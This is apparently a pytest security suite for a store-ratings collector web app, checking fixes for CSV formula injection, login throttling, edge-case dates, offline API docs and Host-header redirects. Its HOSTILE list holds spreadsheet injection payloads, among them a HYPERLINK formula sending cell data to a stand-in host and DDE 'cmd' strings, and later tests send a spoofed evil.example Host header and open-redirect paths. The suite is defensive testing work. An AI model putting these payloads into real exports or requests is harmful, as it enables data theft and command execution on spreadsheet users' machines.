"""Hostile review, issue 13: each attack driven against a real collector on loopback.

1. formula injection through exported CSV cells;
2. a shared address full of wrong logins locking out people with a good token;
3. calendar-edge dates crashing pages and downloads; unexpected errors without
   a request id;
4. ``/docs`` loading Swagger UI from a public CDN;
5. redirects built from the Host header; no way to refuse unknown hosts.

docs/security.md lists each threat with the test here that proves it stopped.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import logging
import re
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sync.clock import format_utc, local_date, utc_now, zone
from sync.collector import Database, Storage
from sync.collector.spreadsheet import cell, csv_field, csv_text
from tests.support.browser import free_port, running_collector, wait_until_up
from tests.support.collector import run_cli

#: Reasons a hostile kiosk token could send, as the review found them.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
ZONE = "Europe/Helsinki"


# -- fixtures -----------------------------------------------------------------


def make_database(path: Path) -> dict:
    """Store s1 with kiosk k1, an office and a staff token, and ratings with hostile reasons."""
    storage = Storage(Database(str(path)))
    storage.db.migrate()
    storage.add_store("s1", "Store one", ZONE)
    storage.add_kiosk("k1", "s1")
    office = storage.add_token("office").token
    staff = storage.add_token("staff", store_id="s1").token
    at = utc_now() - timedelta(hours=2)
    rows = []
    for seq, reason in enumerate([*HOSTILE, "queue", None], start=1):
        moment = at + timedelta(seconds=seq)
        created = format_utc(moment)
        rows.append((str(uuid.uuid4()), seq, "s1", "k1", 1 + seq % 5, 5, created,
                     local_date(moment, zone(ZONE)), "fi", reason, 0, 1, created, 0))
    storage.bulk_insert("k1", rows)
    day = local_date(at, zone(ZONE))
    storage.db.close()
    return {"database": path, "office": office, "staff": staff, "day": day}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    """A real collector process on loopback over :func:`make_database`; adds ``url``."""
    made = make_database(tmp_path_factory.mktemp("hostile") / "hostile.db")
    with running_collector(made["database"]) as url:
        yield {**made, "url": url}


@pytest.fixture
def lonely(tmp_path: Path) -> Iterator[dict]:
    """A collector process of its own (the login throttle counts per process)."""
    made = make_database(tmp_path / "lonely.db")
    with running_collector(made["database"]) as url:
        yield {**made, "url": url}


def csrf_of(session: requests.Session, url: str) -> str:
    form = session.get(url + "/login", timeout=10)
    return re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)


def logged_in(server: dict, token: str | None = None) -> requests.Session:
    """A requests session logged in through the form."""
    session = requests.Session()
    answer = session.post(server["url"] + "/login", allow_redirects=False, timeout=10,
                          data={"token": token or server["office"],
                                "csrf": csrf_of(session, server["url"])})
    assert answer.status_code == 303, answer.text
    return session


def reasons_in(text: str, delimiter: str = ",") -> list[str]:
    """The reason column of a ratings CSV, parsed as a spreadsheet importer would."""
    rows = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""),
                          delimiter=delimiter)
    return [row["reason"] for row in rows]


def assert_neutralised(text: str, delimiter: str = ",") -> None:
    """Every hostile reason is prefixed with ' and quoted; ordinary ones are untouched."""
    found = reasons_in(text, delimiter)
    for reason in HOSTILE:
        assert "'" + reason in found, (reason, found)
        assert reason not in found
        raw = '"' + ("'" + reason).replace('"', '""') + '"'
        assert raw in text, reason
    assert "queue" in found and "" in found
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for value in row:
            assert value.lstrip(" ")[:1] not in set("=+-@\t\r\n\uff1d"), row


# -- 1. formula injection in CSV exports -------------------------------------


def test_api_ratings_export_neutralises_formula_cells(hostile):
    answer = requests.get(hostile["url"] + "/api/v1/export/ratings", timeout=10,
                          params={"format": "csv"},
                          headers={"Authorization": f"Bearer {hostile['office']}"})
    assert answer.status_code == 200
    assert_neutralised(answer.text)
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert all(re.fullmatch(r"[1-5]", row["score"]) for row in rows)  # numbers stay numbers
    jsonl = requests.get(hostile["url"] + "/api/v1/export/ratings", timeout=10,
                         params={"format": "jsonl"},
                         headers={"Authorization": f"Bearer {hostile['office']}"})
    assert {json.loads(line)["reason"] for line in jsonl.text.splitlines()} >= set(HOSTILE)


@pytest.mark.parametrize("dialect, delimiter", [("plain", ","), ("excel-nordic", ";")])
def test_dashboard_csv_downloads_neutralise_formula_cells(hostile, dialect, delimiter):
    session = logged_in(hostile)
    period = {"from": hostile["day"], "to": hostile["day"], "dialect": dialect}
    ratings = session.get(hostile["url"] + "/office/export/ratings.csv", params=period,
                          timeout=10)
    assert ratings.status_code == 200
    assert_neutralised(ratings.text, delimiter)
    daily = session.get(hostile["url"] + "/office/export/daily.csv", params=period, timeout=10)
    row = next(csv.DictReader(io.StringIO(daily.text.removeprefix("\ufeff")),
                              delimiter=delimiter))
    assert row["store_id"] == "s1" and float(row["csat"].replace(",", ".")) >= 0
    assert '"' not in daily.text


def test_cli_export_neutralises_formula_cells(hostile, tmp_path):
    output = tmp_path / "ratings.csv"
    run_cli(hostile["database"], "export", "--output", str(output))
    assert_neutralised(output.read_bytes().decode("utf-8"))


def test_one_cell_function_keeps_numbers_and_quotes_what_it_changes():
    assert cell("=1+1") == "'=1+1" and cell("queue") == "queue"
    assert cell(-0.5) == -0.5 and cell(-3) == -3 and cell(None) is None and cell(True) is True
    assert csv_field(-0.5) == "-0.5" and csv_field(-3) == "-3" and csv_field(False) == "0"
    assert csv_field("-0.5") == "\"'-0.5\""  # text that looks like a number is still text
    assert csv_field('a,"b"') == '"a,""b"""' and csv_field("") == "" and csv_field(None) == ""
    text = csv_text([{"n": -0.5, "s": "@x", "e": None}], ("n", "s", "e"))
    assert text == "n,s,e\n-0.5,\"'@x\",\n"
    assert list(csv.reader(io.StringIO(text))) == [["n", "s", "e"], ["-0.5", "'@x", ""]]


# -- 2. login throttling without lockout --------------------------------------


def test_wrong_logins_are_throttled_but_a_good_token_still_logs_in(lonely):
    url = lonely["url"]
    session = requests.Session()
    csrf = csrf_of(session, url)

    def attempt(token: str) -> requests.Response:
        return session.post(url + "/login", data={"token": token, "csrf": csrf},
                            allow_redirects=False, timeout=10)

    codes = [attempt("hymy_wrong").status_code for _ in range(11)]
    assert codes == [401] * 10 + [429]
    good = requests.Session()
    answer = good.post(url + "/login", allow_redirects=False, timeout=10,
                       data={"token": lonely["staff"], "csrf": csrf_of(good, url)})
    assert answer.status_code == 303 and answer.headers["location"] == "/stores/s1"
    assert good.get(url + "/stores/s1", allow_redirects=False, timeout=10).status_code == 200
    # The good login did not reset the address: guesses are still refused.
    refused = attempt("hymy_still_wrong")
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) > 0
    assert attempt(lonely["office"]).status_code == 303


# -- 3. calendar-edge dates and unexpected errors -----------------------------

EDGE_PAGES = [
    "/stores/s1/days/0001-01-01",
    "/stores/s1/days/9999-12-31",
    "/stores/s1?from=0001-01-01",
    "/stores/s1?from=0001-01-01&to=0001-01-05",
    "/stores/s1?to=0001-01-01",
    "/stores/s1?from=9999-12-20&to=9999-12-31",
    "/office?from=0001-01-01&to=0001-01-05",
    "/office?to=0001-01-01",
    "/office?from=9999-12-20&to=9999-12-31",
]
EDGE_DOWNLOADS = [
    "/office/export/daily.csv?from=0001-01-01",
    "/office/export/daily.csv?from=0001-01-01&to=0001-01-05",
    "/office/export/daily.csv?to=0001-01-01",
    "/office/export/ratings.csv?from=9999-12-20&to=9999-12-31",
    "/office/export/ratings.csv?from=0001-01-01&to=0001-01-05",
    "/office/export/daily.csv?from=9999-12-20&to=9999-12-31",
    "/office/export/ratings.csv?from=2026-02-30",
]


@pytest.mark.parametrize("path", EDGE_PAGES)
def test_calendar_edge_pages_are_a_4xx_with_a_message(hostile, path):
    session = logged_in(hostile)
    answer = session.get(hostile["url"] + path + ("&" if "?" in path else "?") + "lang=en",
                         headers={"Accept": "text/html"}, timeout=10)
    assert answer.status_code in (400, 404), answer.text[:300]
    assert answer.headers["content-type"].startswith("text/html")
    assert ("That period does not work" in answer.text
            or "There is no such store or page" in answer.text)


@pytest.mark.parametrize("path", EDGE_DOWNLOADS)
def test_calendar_edge_downloads_are_a_400_before_any_byte(hostile, path):
    session = logged_in(hostile)
    answer = session.get(hostile["url"] + path, timeout=10)
    assert answer.status_code == 400
    assert re.search(r"\b(from|to|period)\b", answer.text), answer.text
    assert "attachment" not in answer.headers.get("content-disposition", "")


def test_api_period_with_only_an_edge_end_is_a_422(hostile):
    answer = requests.get(hostile["url"] + "/api/v1/stores/s1/summary", timeout=10,
                          params={"to": "0001-01-01"},
                          headers={"Authorization": f"Bearer {hostile['office']}"})
    assert answer.status_code == 422 and "to (0001-01-01)" in answer.json()["detail"]


DATE_TEXT = st.one_of(
    st.dates().map(lambda d: d.isoformat()),
    st.dates().map(lambda d: f"{d.year:04d}-{d.month:02d}-{d.day + 3:02d}"),
    st.text(alphabet="0123456789-+ T:Z.x", max_size=14),
)


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(start=DATE_TEXT, end=DATE_TEXT)
def test_no_date_string_crashes_a_page_a_download_or_the_api(hostile, start, end):
    session = hostile.setdefault("session", logged_in(hostile))
    url = hostile["url"]
    bearer = {"Authorization": f"Bearer {hostile['office']}"}
    answers = [
        session.get(url + "/stores/s1", params={"from": start, "to": end}, timeout=10),
        session.get(url + "/office/export/daily.csv", params={"from": start, "to": end},
                    timeout=10),
        session.get(url + "/office/export/ratings.csv", params={"from": start, "to": end},
                    timeout=10),
        session.get(url + "/stores/s1/days/" + requests.utils.quote(start, safe=""),
                    timeout=10),
        requests.get(url + "/api/v1/stores/s1/daily", params={"from": start, "to": end},
                     headers=bearer, timeout=10),
    ]
    for answer in answers:
        assert answer.status_code < 500, (answer.url, answer.status_code, answer.text[:200])
        assert answer.content is not None  # read to the end: no cut connection


class Collect(logging.Handler):
    """Keeps the collector's log records for a test to read."""

    def __init__(self) -> None:
        super().__init__()
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@contextmanager
def in_process(database: Path) -> Iterator[str]:
    """The collector app under uvicorn in a thread of this process (so a test can break it)."""
    import uvicorn

    from sync.collector.app import create_app
    from sync.collector.settings import Settings

    app = create_app(Settings(database=str(database)))
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_config=None,
                                           access_log=False))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{port}"
    try:
        wait_until_up(url)
        yield url
    finally:
        server.should_exit = True
        thread.join(10)


def test_an_unexpected_error_is_a_page_or_json_with_the_request_id_of_its_log_line(
    tmp_path, monkeypatch
):
    from sync.collector import reports

    made = make_database(tmp_path / "crash.db")

    def broken(*args, **kwargs):
        raise RuntimeError("simulated bug")

    collect = Collect()
    log = logging.getLogger("hymy.collector")
    log.addHandler(collect)
    try:
        with in_process(made["database"]) as url:
            made["url"] = url
            healthy = requests.get(url + "/healthz", timeout=10)
            assert re.fullmatch(r"[0-9a-f]{16}", healthy.headers["x-request-id"])
            session = logged_in(made)
            monkeypatch.setattr(reports, "kiosks_report", broken)
            page = session.get(url + "/stores/s1?lang=en", headers={"Accept": "text/html"},
                               timeout=10)
            api = requests.get(url + "/api/v1/stores/s1/kiosks", timeout=10,
                               headers={"Authorization": f"Bearer {made['office']}"})
    finally:
        log.removeHandler(collect)

    assert page.status_code == 500 and page.headers["content-type"].startswith("text/html")
    page_id = page.headers["x-request-id"]
    assert page_id in page.text and "simulated bug" not in page.text
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert api.status_code == 500 and api.headers["content-type"] == "application/json"
    api_id = api.headers["x-request-id"]
    assert api_id in api.json()["detail"] and api.json()["request_id"] == api_id
    assert set(api.json()) == {"detail", "request_id"}
    assert page_id != api_id
    for rid, path in ((page_id, "/stores/s1"), (api_id, "/api/v1/stores/s1/kiosks")):
        lines = [r for r in collect.records if getattr(r, "request_id", None) == rid]
        events = {r.getMessage() for r in lines}
        assert {"unhandled error", "request"} <= events, events
        line = next(r for r in lines if r.getMessage() == "request")
        assert (line.path, line.status) == (path, 500)


# -- 4. /docs without a CDN ---------------------------------------------------


def test_docs_load_only_same_origin_files_under_a_strict_csp(hostile):
    from sync.collector.web.apidocs import ASSETS, integrity

    url = hostile["url"]
    docs = requests.get(url + "/docs", timeout=10)
    assert docs.status_code == 200
    # the files the page loads (its one <a>, back to the dashboard, loads nothing)
    links = re.findall(r'<(?:script|link)\b[^>]*\b(?:src|href)="([^"]+)"', docs.text)
    assert len(links) == 3
    for link in links:
        assert link.startswith("/") and not link.startswith("//"), link
        asset = requests.get(url + link, timeout=10)
        assert asset.status_code == 200 and asset.headers["x-content-type-options"] == "nosniff"
        name = link.rsplit("/", 1)[1]
        if name in ASSETS:  # the installed file is the pinned one
            assert integrity(asset.content) == ASSETS[name][1]
            assert asset.headers["content-type"].split(";")[0] == ASSETS[name][0].split(";")[0]
        assert f'integrity="{integrity(asset.content)}"' in docs.text
    csp = docs.headers["content-security-policy"]
    directives = dict(part.strip().split(" ", 1) for part in csp.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == "'self'" and directives["connect-src"] == "'self'"
    assert "http" not in csp and "*" not in csp and "unsafe" not in csp
    assert requests.get(url + "/redoc", timeout=10).status_code == 404
    assert requests.get(url + "/docs/swagger-ui/index.html", timeout=10).status_code == 404


@pytest.mark.browser
def test_docs_render_offline_in_chromium(browser_chromium, hostile):
    url = hostile["url"]
    context = browser_chromium.new_context()
    outside, problems = [], []

    def only_loopback(route):
        host = urlsplit(route.request.url).hostname
        if host in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    context.route("**/*", only_loopback)
    page = context.new_page()
    page.on("console", lambda message: problems.append(message.text)
            if message.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.goto(url + "/docs")
    page.wait_for_selector(".opblock-summary-path", timeout=20_000)
    paths = {p.strip().replace("\u200b", "")
             for p in page.locator(".opblock-summary-path").all_inner_texts()}
    spec = requests.get(url + "/openapi.json", timeout=10).json()
    assert paths == set(spec["paths"]), paths ^ set(spec["paths"])
    assert page.locator(".information-container .title").inner_text().startswith("Hymy")
    context.close()
    assert outside == [] and problems == []


# -- 5. Host header, redirects, trusted hosts ---------------------------------


def get(url: str, path: str, host: str, method: str = "GET", body: str = "",
        headers: dict | None = None) -> http.client.HTTPResponse:
    """One raw request with the given Host header (requests would normalise the path)."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    connection.request(method, path, body=body, headers={"Host": host, **(headers or {})})
    answer = connection.getresponse()
    answer.read()
    connection.close()
    return answer


def test_no_redirect_is_built_from_the_host_header(hostile):
    url = hostile["url"]
    session = logged_in(hostile)
    cookie = "; ".join(f"{k}={v}" for k, v in session.cookies.items())
    cases = [
        ("/stores/s1/", {}, "/stores/s1"),
        ("/office/?from=2026-01-01", {"Cookie": cookie}, "/office?from=2026-01-01"),
        ("/api/v1/stores/", {}, "/api/v1/stores"),
        ("/", {}, "/login?next=%2F"),
        ("/office", {}, "/login?next=%2Foffice"),
        ("/login", {"Cookie": cookie}, "/office"),
    ]
    for path, headers, expected in cases:
        answer = get(url, path, "evil.example", headers=headers)
        assert answer.status in (303, 307), (path, answer.status)
        assert answer.getheader("location") == expected, path
    fresh = requests.Session()
    csrf = csrf_of(fresh, url)
    cookie = "; ".join(f"{k}={v}" for k, v in fresh.cookies.items())
    login = get(url, "/login", "evil.example", "POST",
                f"token={hostile['office']}&csrf={csrf}&next=%2Foffice",
                {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"})
    assert (login.status, login.getheader("location")) == (303, "/office")
    session_cookie = re.search(r"hymy_session=([^;]+)", login.getheader("set-cookie")).group(1)
    page = requests.get(url + "/office", cookies={"hymy_session": session_cookie}, timeout=10)
    logout_csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    logout = get(url, "/logout", "evil.example", "POST", f"csrf={logout_csrf}",
                 {"Cookie": f"hymy_session={session_cookie}",
                  "Content-Type": "application/x-www-form-urlencoded"})
    assert (logout.status, logout.getheader("location")) == (303, "/login?bye=1")
    for sneaky in ("//evil.example/", "/\\evil.example/", "//stores/s1/"):
        answer = get(url, sneaky, "evil.example")
        assert answer.getheader("location") is None, sneaky


def test_trusted_hosts_refuses_other_host_headers(tmp_path, monkeypatch):
    made = make_database(tmp_path / "hosts.db")
    monkeypatch.setenv("HYMY_TRUSTED_HOSTS", "hymy.example, 127.0.0.1")
    with running_collector(made["database"]) as url:
        assert get(url, "/healthz", "evil.example").status == 400
        assert get(url, "/stores/s1/", "evil.example").status == 400
        assert get(url, "/healthz", "hymy.example").status == 200
        assert get(url, "/healthz", "hymy.example:443").status == 200
        assert requests.get(url + "/healthz", timeout=10).status_code == 200


def test_trusted_hosts_setting_is_checked():
    from sync.collector.settings import Settings

    assert Settings.from_env({}).host_names() == []
    assert Settings.from_env({"HYMY_TRUSTED_HOSTS": "a.example,*.b.example"}).host_names() == [
        "a.example", "*.b.example"]
    for bad in ("https://a.example", "a.example:8080", "a.example,,b.example"):
        with pytest.raises(ValueError, match="trusted_hosts"):
            Settings.from_env({"HYMY_TRUSTED_HOSTS": bad})

